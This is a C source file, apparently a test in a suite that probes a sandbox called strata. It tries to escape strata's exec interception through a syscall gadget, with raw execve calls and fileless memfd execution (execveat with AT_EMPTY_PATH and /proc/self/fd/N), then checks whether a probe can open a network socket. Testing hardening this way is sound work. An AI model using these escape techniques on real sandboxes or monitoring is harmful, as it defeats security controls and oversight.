/* Attack 7: leave strata behind with a raw kernel execve. strata follows
 * execve with its own loader, so a program exec'd through libc stays under
 * strata (the control). Through the strata gadget the kernel's execve runs
 * the new image with nothing of strata in it: a static binary needs no
 * ld.so, so nothing traps, and only the kernel's backstop remains (Landlock
 * allows executing strata-rt alone; the seccomp filter survives execve).
 * Variants: the static probe by path, and a memfd copy of it run with
 * execveat(fd, "", AT_EMPTY_PATH) and by its /proc/self/fd/N path. The
 * probe tries socket(AF_INET). Lines "the exec succeeded" under a policy
 * mean the hardening's "only strata-rt may be exec'd" did not hold, even
 * when the probe's socket was then refused.
 * Usage: exec_static (the probe is found next to this binary). */
#include "attack.h"
#include <sys/mman.h>

extern char **environ;
static struct gadget g;
static char probe[4096];

/* Child exit statuses: 0/1 the probe ran and was blocked/escaped, 3 exec failed. */
static int run_child(const char *what, int (*fn)(void)) {
    pid_t pid = fork();
    if (pid < 0)
        setup_failed("fork");
    if (pid == 0) {
        long r = fn();
        outcome(what, r, 0);
        _exit(3);
    }
    int status;
    waitpid(pid, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == 3)
        return 0;
    if (WIFEXITED(status) && WEXITSTATUS(status) <= 1) {
        printf("%s: the exec succeeded; the probe %s\n", what, WEXITSTATUS(status) ? "escaped" : "was blocked");
        return WEXITSTATUS(status);
    }
    printf("%s: child ended with status %#x -> blocked\n", what, status);
    return 0;
}

static int exec_libc(void) {
    char *argv[] = {probe, "libc execve (strata's exec)", NULL};
    execve(probe, argv, environ);
    return -errno;
}

static int exec_gadget(void) {
    char *argv[] = {probe, "gadget execve", NULL};
    return gadget_call(g.addr, SYS_execve, (long)probe, (long)argv, (long)environ, 0, 0, 0);
}

static int memfd_exec_path; /* 0: execveat(fd, "", AT_EMPTY_PATH), 1: execve("/proc/self/fd/N") */

static int exec_memfd(void) {
    int flags = memfd_exec_path ? 0 : MFD_CLOEXEC; /* (a /proc/self/fd path needs the fd open in the new image) */
    int fd = memfd_create("probe", flags);
    if (fd < 0)
        fd = gadget_call(g.addr, SYS_memfd_create, (long)"probe", flags, 0, 0, 0, 0);
    if (fd < 0) {
        printf("memfd_create = -%s (libc and gadget)\n", errname(fd == -1 ? errno : -fd));
        return fd == -1 ? -errno : fd;
    }
    int in = open(probe, O_RDONLY);
    char buf[65536];
    ssize_t k;
    while ((k = read(in, buf, sizeof buf)) > 0)
        if (write(fd, buf, k) != k)
            return -EIO;
    close(in);
    if (memfd_exec_path) {
        char proc[64];
        snprintf(proc, sizeof proc, "/proc/self/fd/%d", fd);
        char *argv[] = {probe, "gadget execve(/proc/self/fd/N of a memfd)", NULL};
        return gadget_call(g.addr, SYS_execve, (long)proc, (long)argv, (long)environ, 0, 0, 0);
    }
    char *argv[] = {probe, "gadget execveat(memfd, AT_EMPTY_PATH)", NULL};
    return gadget_call(g.addr, SYS_execveat, fd, (long)"", (long)argv, (long)environ, AT_EMPTY_PATH, 0);
}

int main(int argc, char **argv) {
    (void)argc;
    g = find_gadget();
    probe_path(argv[0], probe, sizeof probe);
    int esc = 0;
    esc |= run_child("libc execve(static probe)", exec_libc);
    esc |= run_child("gadget execve(static probe)", exec_gadget);
    esc |= run_child("gadget execveat(memfd copy of the static probe, AT_EMPTY_PATH)", exec_memfd);
    memfd_exec_path = 1;
    esc |= run_child("gadget execve(/proc/self/fd/N, a memfd copy of the static probe)", exec_memfd);
    return verdict(esc);
}
